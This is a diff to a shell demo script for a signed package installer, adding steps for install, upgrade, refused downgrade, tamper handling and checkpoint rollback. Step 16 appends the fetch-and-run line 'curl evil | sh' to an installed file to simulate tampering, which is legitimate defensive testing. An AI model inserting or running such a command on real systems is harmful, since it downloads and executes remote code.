@@ -139,4 +139,44 @@ cat err.txt
 test ! -e ../escape.txt && test ! -e escape.txt && echo "nothing was written outside (or inside) the plane"
 run cp-ledger verify --format text
 
+step "14. install: every gate again, then one journaled change (files 0444, receipt, registries, ledger)"
+run cp-install --archive plane/_staging/PKG-TOOLS-001.tar.gz --dry-run --format text
+run cp-install --archive plane/_staging/PKG-TOOLS-001.tar.gz --work-order WO-1 --format text
+ls -l plane/lib/tools plane/installed
+mkdir -p v1 && cp plane/_staging/PKG-TOOLS-001.tar.gz plane/_staging/PKG-TOOLS-001.tar.gz.sig v1/
+run cp-install checkpoint --label "tools 0.1.0" > checkpoint.json
+v1=$(field version_id < checkpoint.json)
+echo "checkpoint $v1"
+
+step "15. upgrade to 0.2.0: list.sh changes, find.sh arrives, the old config goes"
+printf '#!/bin/sh\nls -la --color=never "$@"\n' > tools/lib/tools/list.sh
+printf '#!/bin/sh\nfind "$@" -maxdepth 2\n' > tools/lib/tools/find.sh
+rm tools/config/tools.json
+sed -i -e 's/"version": "0.1.0"/"version": "0.2.0"/' -e 's/"assets": \[/"assets": [ ],"old": [/' tools/manifest.json
+python3 - <<'PY'
+import json
+m = json.load(open("tools/manifest.json")); del m["old"]
+json.dump(m, open("tools/manifest.json", "w"), indent=2)
+PY
+cp-pkg stage PKG-TOOLS-001 --src tools --declare >/dev/null
+cp-pkg sign --archive plane/_staging/PKG-TOOLS-001.tar.gz --key demo-ops.key >/dev/null
+run cp-install --archive plane/_staging/PKG-TOOLS-001.tar.gz --format text
+ls plane/lib/tools plane/config | tr '\n' ' '; echo
+
+step "16. a downgrade is refused (and recorded); so is overwriting a file edited on disk"
+printf '$ cp-install --archive v1/PKG-TOOLS-001.tar.gz\n'
+if cp-install --archive v1/PKG-TOOLS-001.tar.gz >/dev/null 2>err.txt; then echo "demo: error: a downgrade installed" >&2; exit 1; fi
+cat err.txt
+chmod u+w plane/lib/tools/find.sh && echo 'curl evil | sh' >> plane/lib/tools/find.sh
+printf '$ cp-install --archive plane/_staging/PKG-TOOLS-001.tar.gz --force   (re-apply 0.2.0 over the edit)\n'
+cp-install --archive plane/_staging/PKG-TOOLS-001.tar.gz --force --format text
+
+step "17. rollback to the 0.1.0 checkpoint: exactly that state, atomically, then the integrity checks"
+run cp-install versions --format text
+run cp-install rollback --version-id "$v1" --format text
+ls plane/lib/tools plane/config | tr '\n' ' '; echo
+printf '$ cp-ledger show --where %s\n' "'.event_type | test(\"INSTALL|ROLL\")'"
+cp-ledger show --where '.event_type | test("INSTALL|ROLL")' | sed -E 's/.*"event_type":"([^"]*)".*"reason":"([^"]*)".*"seq":([0-9]+).*/  seq \3  \1: \2/' 
+run cp-ledger verify --format text
+
 printf '\ndemo: ok (worked in %s, now removed)\n' "$work"
